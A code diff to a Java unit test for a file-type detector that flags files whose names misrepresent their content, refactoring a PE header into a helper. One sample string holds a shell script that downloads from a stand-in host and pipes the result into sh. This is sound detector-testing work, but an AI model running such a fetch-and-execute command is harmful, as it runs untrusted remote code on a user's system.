@@ -7,6 +7,7 @@ import java.nio.charset.StandardCharsets;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipOutputStream;
 import net.sguil.bridge.files.FileTypeDetector;
+import net.sguil.bridge.testpcap.SampleFiles;
 import org.junit.jupiter.api.Test;
 
 class FileTypesTest {
@@ -53,12 +54,7 @@ class FileTypesTest {
     /** The rule "name lies about its type" over what the detector really says of real file heads. */
     @Test
     void namesThatLieAboutTheDetectedContent() throws Exception {
-        byte[] pe = new byte[0x100];
-        pe[0] = 'M';
-        pe[1] = 'Z';
-        pe[0x3C] = (byte) 0x80;
-        pe[0x80] = 'P';
-        pe[0x81] = 'E';
+        byte[] pe = SampleFiles.pe(new byte[0x100]);
         byte[] elf = {0x7F, 'E', 'L', 'F', 2, 1, 1, 0};
         byte[] script = "#!/bin/sh\ncurl http://x/a | sh\n".getBytes(StandardCharsets.US_ASCII);
         byte[] pdf = "%PDF-1.7\n1 0 obj\n".getBytes(StandardCharsets.US_ASCII);
